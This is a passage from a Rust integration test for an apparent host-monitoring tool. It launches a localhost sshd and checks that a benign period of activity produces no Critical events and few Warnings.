        .args([
            "-D",
            "-e",
            "-f",
            "/dev/null",
            "-o",
            "ListenAddress=127.0.0.1",
        ])
        .arg("-o")
        .arg(format!("PidFile={}", dir.path().join("sshd.pid").display()))
        .args(["-p", &port.to_string()])
        .args(["-h", "/etc/ssh/ssh_host_ed25519_key"])
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let e = expect(&mut s, "sshd listening", |e| {
        matches!(&e.details, Some(event::Details::Network(n)) if n.local_port == u32::from(port))
    })
    .await;
    let _ = sshd.kill();
    let _ = sshd.wait();
    assert_eq!(e.severity(), Severity::Info, "{e:?}");

    // Everything up to a last marker, judged.
    let end = tag("day-end");
    run(Command::new("/bin/sh").args(["-c", &format!("sleep 0.2; : {end}")]));
    let mut warnings = Vec::new();
    let mut criticals = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        let Ok(Some(Ok(r))) = tokio::time::timeout(left, s.next()).await else {
            panic!("the day's last marker did not come");
        };
        let Some(Item::Event(e)) = r.item else {
            continue;
        };
        let line = format!("[{}] {}", e.rule_id, e.message);
        match e.severity() {
            Severity::Critical => criticals.push(line),
            Severity::Warning => warnings.push(line),
            _ => {}
        }
        if mentions_in(&e, &end) {
            break;
        }
    }
    println!("the day's WARNINGs ({}): {warnings:#?}", warnings.len());
    assert!(
        criticals.is_empty(),
        "CRITICAL on a benign day: {criticals:#?}"
    );
    assert!(
        warnings.len() <= 3,
        "too many WARNINGs on a benign day: {warnings:#?}"
    );
}
